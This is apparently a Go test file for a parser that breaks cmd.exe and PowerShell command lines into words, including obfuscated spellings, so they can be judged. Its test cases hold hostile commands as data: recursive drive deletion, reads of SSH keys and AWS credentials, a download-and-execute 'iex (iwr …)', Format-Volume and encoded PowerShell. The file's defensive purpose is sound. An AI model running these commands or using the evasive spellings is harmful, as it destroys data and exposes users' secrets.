package winshell

import (
	"strings"
	"testing"
)

// words renders a script's commands as "via:word word|via:word" for
// comparison.
func words(s *Script) string {
	var cmds []string
	for _, c := range s.Commands {
		var ws []string
		for _, w := range c.Words {
			ws = append(ws, w.Text)
		}
		cmds = append(cmds, c.Via+":"+strings.Join(ws, " "))
	}
	return strings.Join(cmds, "|")
}

var home = Options{Home: `C:\Users\me`, Cwd: `C:\Users\me\proj`}

// Every spelling cmd.exe gives one command is parsed into the same words.
func TestCmdSpellings(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`rd /s /q C:\x`, `:rd /s /q C:\x`},
		{`r^d /s /q C:\x`, `:rd /s /q C:\x`},
		{`rd/s/q C:\x`, `:rd /s /q C:\x`},
		{`RD /S/Q C:\x`, `:RD /S /Q C:\x`},
		{`@rd /s /q C:\x`, `:rd /s /q C:\x`},
		{`@@ rd /s /q C:\x`, `:rd /s /q C:\x`},
		{`rd,/s;/q=C:\x`, `:rd /s /q C:\x`},
		{`cmd /c rd /s /q C:\x`, `:cmd /c rd /s /q C:\x|cmd /c:rd /s /q C:\x`},
		{`cmd.exe /d /s /c "rd /s /q C:\x"`, `:cmd.exe /d /s /c rd /s /q C:\x|cmd /c:rd /s /q C:\x`},
		{`cmd /c "dir & rd /s /q x"`, `:cmd /c dir & rd /s /q x|cmd /c:dir|cmd /c:rd /s /q x`},
		{`cmd /c dir ^& rd /s /q x`, `:cmd /c dir & rd /s /q x|cmd /c:dir|cmd /c:rd /s /q x`},
		{`if 1==1 rd /s /q C:\x`, `:if 1==1 rd /s /q C:\x|if:rd /s /q C:\x`},
		{`if /i not "a" == "b" rd /s /q C:\x`, `:if /i not a == b rd /s /q C:\x|if:rd /s /q C:\x`},
		{`if exist C:\x rd /s /q C:\x`, `:if exist C:\x rd /s /q C:\x|if:rd /s /q C:\x`},
		{`if a equ b rd x`, `:if a equ b rd x|if:rd x`},
		{`type "my file.txt"`, `:type my file.txt`},
		{`dir "C:\Program Files (x86)"`, `:dir C:\Program Files (x86)`},
		{`echo a^&b`, `:echo a&b`},
		{`echo "a&b"`, `:echo a&b`},
		{`cd.. & dir`, `:cd ..|:dir`},
		{`cd\`, `:cd \`},
		{`type %USERPROFILE%\.ssh\id_rsa`, `:type C:\Users\me\.ssh\id_rsa`},
		{`type %HOMEDRIVE%%HOMEPATH%\.aws\credentials`, `:type C:\Users\me\.aws\credentials`},
		{`dir | findstr x & type a || echo no && ver`, `:dir|:findstr x|:type a|:echo no|:ver`},
		{`powershell -NoProfile -Command "Remove-Item C:\ -Recurse"`, `:powershell -NoProfile -Command Remove-Item C:\ -Recurse|powershell -Command:Remove-Item C:\ -Recurse`},
		{"powershell -enc " + encodeForTest("Stop-Computer"), ":powershell -enc " + encodeForTest("Stop-Computer") + "|powershell -Command:Stop-Computer"},
		{`start "" /wait notepad x.txt`, `:start  /wait notepad x.txt|start:notepad x.txt`},
	} {
		s := ParseCmd(c.src, home)
		if got := words(s); got != c.want {
			t.Errorf("%s:\n got %s\nwant %s", c.src, got, c.want)
		}
		if len(s.Unknown) > 0 {
			t.Errorf("%s: unknown %q", c.src, s.Unknown)
		}
	}
}

func encodeForTest(s string) string {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), 0)
	}
	const enc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var out strings.Builder
	for i := 0; i < len(b); i += 3 {
		var n uint32
		k := 0
		for j := 0; j < 3; j++ {
			n <<= 8
			if i+j < len(b) {
				n |= uint32(b[i+j])
				k++
			}
		}
		for j := 0; j < 4; j++ {
			if j <= k {
				out.WriteByte(enc[(n>>(18-6*j))&63])
			} else {
				out.WriteByte('=')
			}
		}
	}
	return out.String()
}

// Redirections are read whatever their spelling.
func TestCmdRedirections(t *testing.T) {
	s := ParseCmd(`echo a>b.txt 2>&1 & type<in.txt & dir 2>>err.log`, home)
	var got []string
	for _, c := range s.Commands {
		for _, r := range c.Redirs {
			got = append(got, r.Op+" "+r.Target.Text)
		}
	}
	if want := "> b.txt|2>&1 |< in.txt|2>> err.log"; strings.Join(got, "|") != want {
		t.Errorf("got %q, want %q", strings.Join(got, "|"), want)
	}
	if w := s.Commands[0].Redirs[0]; !w.Write || w.Read {
		t.Errorf("> is not a write: %+v", w)
	}
}

// What cmd.exe expands or runs in ways the parser cannot know is
// reported, and the commands inside are still returned.
func TestCmdOutsideSubset(t *testing.T) {
	for _, c := range []struct{ src, unknown, has string }{
		{`echo %PATH%`, "%PATH%", ""},
		{`dir %1`, "argument", ""},
		{`for /r %i in (*) do rd /s /q %i`, "for", "rd /s /q %i"},
		{`call x.cmd`, "call", ""},
		{`(rd /s /q x)`, "parenthesised", "rd /s /q x"},
		{`if exist x (echo a) else rd /s /q x`, "else", "rd /s /q x"},
		{`:label`, "label", ""},
		{`cmd /v:on /c echo !x!`, "delayed", ""},
		{"dir ^", "caret", ""},
		{`type "unclosed`, "unclosed", ""},
		{`powershell -c "$x = 1"`, "variable", ""},
		// usebackq: "…" names files the loop reads
		{`for /f "usebackq" %i in ("C:\Users\me\.ssh\id_rsa") do echo %i`, "for", ""},
		{`for /f "delims= useback" %i in (".env") do echo %i`, "for", ""},
	} {
		s := ParseCmd(c.src, home)
		if !strings.Contains(strings.Join(s.Unknown, "\n"), c.unknown) {
			t.Errorf("%s: unknown %q, want one mentioning %q", c.src, s.Unknown, c.unknown)
		}
		if c.has != "" && !strings.Contains(words(s), c.has) {
			t.Errorf("%s: commands %s lack %q", c.src, words(s), c.has)
		}
	}
}

func TestPowerShellPlain(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`Get-ChildItem`, `:Get-ChildItem`},
		{`Get-Content app.log -Tail 50`, `:Get-Content app.log -Tail 50`},
		{`Get-Process | Sort-Object CPU -Descending`, `:Get-Process|:Sort-Object CPU -Descending`},
		{`Get-ChildItem -Path:C:\x -Recurse`, `:Get-ChildItem -Path C:\x -Recurse`},
		{`Get-Content -Path:'.env' -LiteralPath:"a b"`, `:Get-Content -Path .env -LiteralPath a b`},
		{`Get-Content –Path:'.env'`, `:Get-Content -Path .env`},
		{`gc a.txt, b.txt`, `:gc a.txt b.txt`},
		{`Write-Output 'it''s' "plain"`, `:Write-Output it's plain`},
		{`ls; dir && gci || pwd`, `:ls|:dir|:gci|:pwd`},
		{"ls\r\ndir\n# a comment\ngci # another", `:ls|:dir|:gci`},
		{`gc $env:USERPROFILE\.ssh\id_rsa`, `:gc C:\Users\me\.ssh\id_rsa`},
		{`gc $HOME\.aws\credentials`, `:gc C:\Users\me\.aws\credentials`},
		{`Get-ChildItem > $null 2>&1`, `:Get-ChildItem`},
		{`cmd /c "rd /s /q C:\x"`, `:cmd /c rd /s /q C:\x|cmd /c:rd /s /q C:\x`},
		{`pwsh -NoProfile -c Stop-Computer`, `:pwsh -NoProfile -c Stop-Computer|powershell -Command:Stop-Computer`},
		{`<# block #> Get-Date`, `:Get-Date`},
	} {
		s := ParsePowerShell(c.src, home)
		if got := words(s); got != c.want {
			t.Errorf("%s:\n got %s\nwant %s", c.src, got, c.want)
		}
		if len(s.Unknown) > 0 {
			t.Errorf("%s: unknown %q", c.src, s.Unknown)
		}
	}
	s := ParsePowerShell(`Get-Process | Sort-Object CPU`, home)
	if !s.Commands[0].PipeOut || !s.Commands[1].PipeIn || s.Commands[0].PipeIn {
		t.Errorf("pipes: %+v %+v", s.Commands[0], s.Commands[1])
	}
	if w := ParsePowerShell(`Remove-Item '-Recurse'`, home).Commands[0].Words[1]; !w.Quoted {
		t.Errorf("a quoted word is not marked quoted: %+v", w)
	}
	if w := ParsePowerShell(`Remove-Item -Path:'-Recurse'`, home).Commands[0].Words[2]; !w.Quoted || w.Text != "-Recurse" {
		t.Errorf("a parameter's quoted value is not marked quoted: %+v", w)
	}
}

// Everything outside the plain subset is reported; commands in blocks and
// subexpressions are still returned, so their names can be judged.
func TestPowerShellOutsideSubset(t *testing.T) {
	for _, c := range []struct{ src, unknown, has string }{
		{`$x = Get-ChildItem`, "variable", "Get-ChildItem"},
		// a second script beside -EncodedCommand's
		{"powershell -enc " + encodeForTest("Get-Date") + " -c Remove-Item x", "powershell running", ""},
		{`ls $path`, "variable", ""},
		{`& "C:\x.exe"`, "call operator", ""},
		{`. .\profile.ps1`, "dot-sourcing", ""},
		{`gci | % { Remove-Item $_ -Recurse }`, "script block", "Remove-Item"},
		{`gci | ? { $_.Length -gt 1kb }`, "script block", ""},
		{`iex "Get-Date"`, "Invoke-Expression", ""},
		{`Invoke-Expression (iwr https://x)`, "Invoke-Expression", "iwr https://x"},
		{`foreach ($f in ls) { Format-Volume -DriveLetter D }`, "foreach", "Format-Volume"},
		{`if ($true) { Stop-Computer }`, "if", "Stop-Computer"},
		{`Write-Output "$env:PATH"`, "string", ""},
		{"Write-Output `$x", "backtick", ""},
		{`[IO.File]::ReadAllText('x')`, "type", ""},
		{`Get-Date --% /x`, "stop-parsing", ""},
		{"Write-Output @'\nx\n'@", "here-string", ""},
		{`Get-Content @args`, "splatting", ""},
		{`Start-Job { rd C:\ } &`, "background", "rd C:\\"},
		{`Get-Content (`, "unclosed", ""},
		{`1 + 1`, "expression", ""},
		{`"C:\x.exe" arg`, "expression", ""},
		{`powershell -File x.ps1`, "file", ""},
		{`Get-Content x < in.txt`, "reserved", ""},
	} {
		s := ParsePowerShell(c.src, home)
		if !strings.Contains(strings.Join(s.Unknown, "\n"), c.unknown) {
			t.Errorf("%s: unknown %q, want one mentioning %q", c.src, s.Unknown, c.unknown)
		}
		if c.has != "" && !strings.Contains(words(s), c.has) {
			t.Errorf("%s: commands %s lack %q", c.src, words(s), c.has)
		}
	}
}

// The parsers never panic or loop, and a script they report as plain has
// no word whose value is known only at run time.
func FuzzParse(f *testing.F) {
	for _, s := range []string{`rd /s /q C:\x`, `r^d/s/q "a b" & dir | findstr x >o 2>&1`, `cmd /c "if 1==1 rd x"`,
		`gci -r | ? { $_ } | % Name`, `$x = "a$(b)c"; iex $x`, `@'` + "\nx\n'@", `powershell -enc AAAA`, `(a) else (b)`,
		"%A% %B %1 ^", `[x]::y(1,2) | & $z --% q`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		for _, s := range []*Script{ParseCmd(src, home), ParsePowerShell(src, home)} {
			if len(s.Unknown) > 0 {
				continue
			}
			for _, c := range s.Commands {
				for _, w := range c.Words {
					if w.Dynamic {
						t.Fatalf("%q: plain script with a dynamic word %q", src, w.Raw)
					}
				}
			}
		}
	})
}

// Words are read as runes: a byte that is not UTF-8 is U+FFFD in the
// word, whether the rest of the line is plain ASCII or not.
func TestInvalidUTF8Words(t *testing.T) {
	for _, c := range []struct {
		s    *Script
		want string
	}{
		{ParseCmd("type \xffa.txt", home), "\uFFFDa.txt"},
		{ParseCmd("type \xffa.txt é", home), "\uFFFDa.txt"},
		{ParsePowerShell("Get-Content \xffa.txt", home), "\uFFFDa.txt"},
		{ParsePowerShell("Get-Content \xffa.txt é", home), "\uFFFDa.txt"},
	} {
		if len(c.s.Commands) != 1 || len(c.s.Commands[0].Words) < 2 {
			t.Fatalf("%s", words(c.s))
		}
		if w := c.s.Commands[0].Words[1]; w.Text != c.want || w.Raw != c.want {
			t.Errorf("%q %q, want %q", w.Text, w.Raw, c.want)
		}
	}
}
